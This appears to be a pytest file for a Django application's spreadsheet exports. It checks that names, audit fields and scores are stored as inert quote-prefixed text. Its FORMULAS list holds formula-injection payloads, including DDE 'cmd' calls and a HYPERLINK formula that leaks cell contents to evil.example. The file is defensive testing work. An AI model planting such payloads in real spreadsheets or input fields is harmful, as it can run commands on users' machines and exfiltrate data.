"""Formula injection: text that a spreadsheet would run as a formula is stored as inert text in every export.

The rule lives in shenbao/lib/spreadsheet_text.py: a string cell (data type "s", so never a formula in
the file) and Excel's quotePrefix when the text starts like a formula, so it stays text after an edit.
The text itself is kept exactly (no apostrophe added). Numbers stay numbers: -5 is not text.
"""

import io
import types
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from accounts import scoping
from accounts.models import Role
from applications.models import Application, Status
from audit.export import audit_xlsx
from dashboards.xlsx import table_xlsx
from documents.recommendation import recommendation_xlsx
from documents.summary import summary_xlsx
from documents.tests.submitted import submitted
from documents.tests.workbooks import export, fill
from reviews import experts, scoresheet
from shenbao.lib import spreadsheet_text
from tests import factories
from tests.application_data import complete_data

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def book(content):
    data = content if isinstance(content, bytes) else content.read()
    return openpyxl.load_workbook(io.BytesIO(data))


def all_cells(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(workbook, payloads):
    """No formula anywhere, and every payload present, verbatim, as quote-prefixed text."""
    cells = all_cells(workbook)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = {c.value: c for c in cells if isinstance(c.value, str)}
    for payload in payloads:
        cell = found.get(payload)
        assert cell is not None, f"{payload!r} is not in the sheet verbatim"
        assert cell.data_type == "s" and cell.quotePrefix, payload


@pytest.mark.parametrize("payload", FORMULAS)
def test_the_shared_rule_marks_every_formula_start(payload):
    sheet = openpyxl.Workbook().active
    cell = spreadsheet_text.put_text(sheet["A1"], payload)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)


def test_plain_text_is_not_marked_and_illegal_characters_are_dropped():
    sheet = openpyxl.Workbook().active
    cell = spreadsheet_text.put_text(sheet["A1"], "稀土\x00集群\x07")
    assert (cell.value, cell.quotePrefix) == ("稀土集群", False)


def test_the_application_workbook_keeps_every_text_cell_inert_and_numbers_numeric(draft):
    schema = draft.call.schema
    data = complete_data(schema)
    text_cells = [c for c in schema.cells.values() if c.kind in {"text", "longtext"}]
    payloads = {}
    for n, cell in enumerate(text_cells):
        payloads[cell.name] = FORMULAS[n % len(FORMULAS)] + f"#{n}"
    data.update(payloads)
    growth = next(c for c in schema.cells.values() if c.kind == "growth")
    data[growth.name] = "-5.00"
    workbook = book(export(fill(draft, data)))
    assert_inert(workbook, payloads.values())
    numbers = [c for c in all_cells(workbook) if c.value == -5]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_the_summary_and_recommendation_lists_keep_names_inert(call, bureau):
    for payload in FORMULAS:
        submitted(call, status=Status.RECOMMENDED, cluster_name=payload)
    summary = book(summary_xlsx(Application.objects.order_by("pk"), call.schema, "=标题", "+筛选"))
    assert_inert(summary, [*FORMULAS, "=标题"])
    listing = book(recommendation_xlsx(scoping.recommended_for(bureau, call), call.schema, bureau.region))
    assert_inert(listing, FORMULAS)


def test_a_dashboard_table_keeps_text_inert_and_negative_numbers_numeric():
    rows = [[payload, Decimal("-5.00"), -3] for payload in FORMULAS]
    workbook = book(table_xlsx("=图表", ["=名称", "增长率（%）", "数量"], rows))
    assert_inert(workbook, [*FORMULAS, "=名称"])
    sheet = workbook.active
    values = [(sheet.cell(r, 2).value, sheet.cell(r, 2).data_type) for r in range(4, 4 + len(FORMULAS))]
    assert set(values) == {(-5, "n")}


def test_the_audit_export_keeps_what_users_sent_inert():
    # The user agent, the username tried at login and object names are all chosen by whoever sends them.
    entries = [
        types.SimpleNamespace(
            seq=n,
            at=timezone.now(),
            username=payload,
            role="applicant",
            ip="10.0.0.1",
            user_agent=payload,
            action="login_failed",
            object_type="user",
            object_id="-1",
            object_repr=payload,
            result=payload,
            detail={"reason": "x"},
            hash="ab" * 32,
        )
        for n, payload in enumerate(FORMULAS, 1)
    ]
    with audit_xlsx(entries, "=筛选", role_labels={}) as out:
        workbook = book(out)
    assert_inert(workbook, FORMULAS)


def test_the_expert_scoresheet_keeps_names_and_affiliations_inert(recommended, department):
    reviewers = [
        factories.user(Role.EXPERT, region_code="150100", full_name=FORMULAS[n], affiliation=FORMULAS[n + 1])
        for n in (0, 2)
    ]
    experts.assign(recommended, department, reviewers)
    for reviewer in reviewers:
        review = recommended.expert_reviews.get(expert=reviewer)
        experts.declare(review, reviewer, has_conflict=False)
        scores = {"scale": "18.5", "innovation": "17", "digital": "12.5", "green": "13", "openness": "8"}
        data = {f"score_{k}": v for k, v in {**scores, "planning": "16"}.items()}
        data["opinion"] = '=HYPERLINK("http://evil.example")'
        experts.submit_sheet(review, reviewer, data)
    with scoresheet.scoresheet_xlsx(scoresheet.build(recommended)) as out:
        workbook = book(out)
    assert_inert(workbook, FORMULAS[:4])
